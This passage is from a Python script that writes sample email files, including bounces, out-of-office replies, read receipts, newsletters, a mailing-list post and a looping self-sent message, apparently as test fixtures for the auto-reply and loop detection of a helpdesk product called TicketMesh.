--000000000000fa1b2c3d4e5f6a--
--000000000000fa1b2c3d4e5f60
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.com
Received-From-MTA: dns; mail.ticketmesh.test
Arrival-Date: Sat, 21 Nov 2026 17:14:04 -0800 (PST)

Final-Recipient: rfc822; no.such.user.2026@gmail.com
Action: failed
Status: 5.1.1
Remote-MTA: dns; gmail-smtp-in.l.google.com. (142.250.0.26, the server for the domain gmail.com.)
Diagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach does not exist.
Last-Attempt-Date: Sat, 21 Nov 2026 17:14:05 -0800 (PST)

--000000000000fa1b2c3d4e5f60
Content-Type: message/rfc822

From: TicketMesh Support <{US}>
To: no.such.user.2026@gmail.com
Subject: [#TM-10004] We received your request
Message-ID: {OUR_ID[4]}
Date: Sun, 22 Nov 2026 09:14:03 +0800

Hello, we received your request and will answer soon.

--000000000000fa1b2c3d4e5f60--
""")

add("bounce-qq-soft-mailbox-full.eml", f"""
Return-Path: <>
From: "PostMaster" <MAILER-DAEMON@qq.com>
To: {US}
Subject: {b("退信：[#TM-10005] 我们已收到您的请求", "gb18030")}
Date: Sun, 22 Nov 2026 09:16:40 +0800
Message-ID: <bounce.qq.6560a1b2@qq.com>
Mime-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="----=_QQBounce_0001"
""", f"""------=_QQBounce_0001
Content-Type: text/plain; charset="gb18030"
Content-Transfer-Encoding: base64

{b64_lines('''很抱歉您发送的邮件被退回，以下是该邮件的相关信息：
收件人：987654321@qq.com
退信原因：收件人邮箱空间已满，请稍后重试（452 4.2.2 mailbox full）
'''.encode("gb18030"))}

------=_QQBounce_0001
Content-Type: message/delivery-status

Reporting-MTA: dns; mx3.qq.com

Final-Recipient: rfc822; 987654321@qq.com
Action: delayed
Status: 4.2.2
Diagnostic-Code: smtp; 452 4.2.2 mailbox full

------=_QQBounce_0001
Content-Type: text/rfc822-headers

From: "TicketMesh Support" <{US}>
To: 987654321@qq.com
Subject: [#TM-10005] We received your request
Message-ID: {OUR_ID[5]}

------=_QQBounce_0001--
""")

add("bounce-qmail-plain-text.eml", f"""
Return-Path: <>
From: MAILER-DAEMON@mail.example.org
To: {US}
Subject: failure notice
Date: Sun, 22 Nov 2026 01:14:30 +0000
Message-ID: <qmail.bounce.1@mail.example.org>
""", f"""Hi. This is the qmail-send program at mail.example.org.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<left.company@example.org>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

Return-Path: <{US}>
From: TicketMesh Support <{US}>
To: left.company@example.org
Subject: [#TM-10006] We received your request
Message-ID: {OUR_ID[6]}

Hello, we received your request and will answer soon.
""")

# --- auto-replies ---------------------------------------------------------------------------

add("oof-exchange-en.eml", f"""
From: Bob Miller <bob.miller@fabrikam.com>
To: TicketMesh Support <{US}>
Subject: Automatic reply: [#TM-10007] We received your request
Thread-Topic: [#TM-10007] We received your request
Thread-Index: AQHbPZ2xOOFreply
Date: Sun, 22 Nov 2026 01:14:09 +0000
Message-ID: <a1b2c3d4e5f6.oof@MW4PR11MB.namprd11.prod.outlook.com>
In-Reply-To: {OUR_ID[7]}
References: {OUR_ID[7]}
Auto-Submitted: auto-generated
X-MS-Exchange-Inbox-Rules-Loop: bob.miller@fabrikam.com
X-Auto-Response-Suppress: All
X-MS-Exchange-Organization-AutoReply: OOF
Content-Language: en-US
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"
""", "I am out of the office until 30 November with limited access to email.\nFor urgent matters contact alice@fabrikam.com.\n")

add("oof-exchange-zh.eml", f"""
From: {b("张伟")} <zhang.wei@contoso.cn>
To: "TicketMesh Support" <{US}>
Subject: {b("自动回复: [#TM-10008] 我们已收到您的请求")}
Thread-Topic: {b("[#TM-10008] 我们已收到您的请求")}
Date: {DATE}
Message-ID: <HK0PR01MB.zhoof.0001@HK0PR01MB.apcprd01.prod.outlook.com>
In-Reply-To: {OUR_ID[8]}
References: {OUR_ID[8]}
Auto-Submitted: auto-generated
X-MS-Exchange-Inbox-Rules-Loop: zhang.wei@contoso.cn
X-Auto-Response-Suppress: All
Content-Language: zh-CN
MIME-Version: 1.0
Content-Type: text/plain; charset="gb2312"
Content-Transfer-Encoding: base64
""", b64_lines("您好，我正在休假，12月1日返回办公室，期间请联系王芳。\n".encode("gb2312")) + "\n")

add("gmail-vacation-responder.eml", f"""
From: Li Na <li.na.2026@gmail.com>
To: {US}
Subject: On holiday until 28 November
Date: Sun, 22 Nov 2026 09:14:20 +0800
Message-ID: <CAHvacation0001=@mail.gmail.com>
In-Reply-To: {OUR_ID[1]}
References: {OUR_ID[1]}
Auto-Submitted: auto-replied
Precedence: bulk
X-Autoreply: yes
MIME-Version: 1.0
Content-Type: text/plain; charset="UTF-8"
""", "I'm on holiday until 28 November and will reply when I'm back.\n")

add("zimbra-out-of-office.eml", f"""
From: Liu Yang <liu.yang@zimbra.example.org>
To: {US}
Subject: Re: [#TM-10002] An agent replied
Date: Sun, 22 Nov 2026 09:15:00 +0800
Message-ID: <1763774100123.zimbra.oof@zimbra.example.org>
In-Reply-To: {OUR_ID[2]}
Auto-Submitted: auto-replied (zimbra; vacation)
Precedence: bulk
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit
""", "I am away at a conference this week. I will answer your mail next Monday.\n")

add("read-receipt-outlook.eml", f"""
From: Wang Fang <wang.fang@contoso.com>
To: {US}
Subject: Read: [#TM-10001] An agent replied
Date: Sun, 22 Nov 2026 02:30:00 +0000
Message-ID: <SN6PR01MB4321.mdn.0001@SN6PR01MB4321.namprd01.prod.outlook.com>
References: {OUR_ID[1]}
MIME-Version: 1.0
Content-Type: multipart/report; report-type=disposition-notification;
\tboundary="_mdn_boundary_0001_"
""", f"""--_mdn_boundary_0001_
Content-Type: text/plain; charset="us-ascii"

Your message

  To: Wang Fang
  Subject: [#TM-10001] An agent replied
  Sent: Sunday, November 22, 2026 1:20:00 AM (UTC+00:00)

was read on Sunday, November 22, 2026 2:30:00 AM (UTC+00:00).

--_mdn_boundary_0001_
Content-Type: message/disposition-notification

Reporting-UA: SN6PR01MB4321.namprd01.prod.outlook.com; Microsoft Outlook 16.0
Final-Recipient: rfc822;wang.fang@contoso.com
Original-Message-ID: {OUR_ID[1]}
Disposition: manual-action/MDN-sent-manually; displayed

--_mdn_boundary_0001_--
""")

add("shop-notification-auto-generated.eml", f"""
From: Example Shop <no-reply@shop.example>
To: {US}
Subject: Your order 20261122-0042 has shipped
Date: {DATE}
Message-ID: <0100018c00000000-ship-0042@email.shop.example>
Auto-Submitted: auto-generated
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
""", "Your order 20261122-0042 is on its way.\n")

add("newsletter-precedence-bulk.eml", f"""
From: Deals <news@deals.example>
To: {US}
Subject: November deals: 30% off
Date: {DATE}
Message-ID: <nl.20261122@deals.example>
Precedence: bulk
List-Unsubscribe: <https://deals.example/u/abc>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
""", "Thirty percent off everything this week.\n")

# --- people through lists, and our own mail -------------------------------------------------

add("mailing-list-post.eml", f"""
From: Zhao Lei <zhao.lei@customer.example>
To: ops-team@groups.customer.example
Cc: {US}
Subject: [ops-team] Production VPN is down since 08:00
Date: {DATE}
Message-ID: <CAListPost0001@mail.customer.example>
List-Id: <ops-team.groups.customer.example>
List-Unsubscribe: <mailto:ops-team+unsubscribe@groups.customer.example>
List-Post: <mailto:ops-team@groups.customer.example>
List-Archive: <https://groups.customer.example/g/ops-team>
Precedence: list
Mailing-list: list ops-team@groups.customer.example; contact ops-team+owners@groups.customer.example
X-Auto-Response-Suppress: All
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
""", "The VPN gateway refuses all logins since 08:00. Support, please have a look.\n")

add("our-own-mail-looping-back.eml", f"""
Return-Path: <{US}>
From: TicketMesh Support <{US}>
To: {US}
Subject: [#TM-10001] We received your request
Date: {DATE}
Message-ID: {OUR_ID[1]}
Reply-To: support+TM-10001.a4t5puxfatgk@ticketmesh.test
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
""", "Hello, we received your request and will answer soon.\n")

add("plain-new-request-en.eml", f"""
From: "Olivia Park" <olivia.park@example.com>
To: {US}
Subject: Cannot reset my password
Date: Sun, 22 Nov 2026 01:14:03 +0000
Message-ID: <new.request.0001@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit
""", "Hi,\n\nthe reset link in your email says it has expired, every time.\n\nOlivia\n")


def main() -> None:
    for name, raw in MESSAGES.items():
        (HERE / name).write_bytes(raw)
    print(f"{len(MESSAGES)} messages written to {HERE}")


if __name__ == "__main__":
    main()
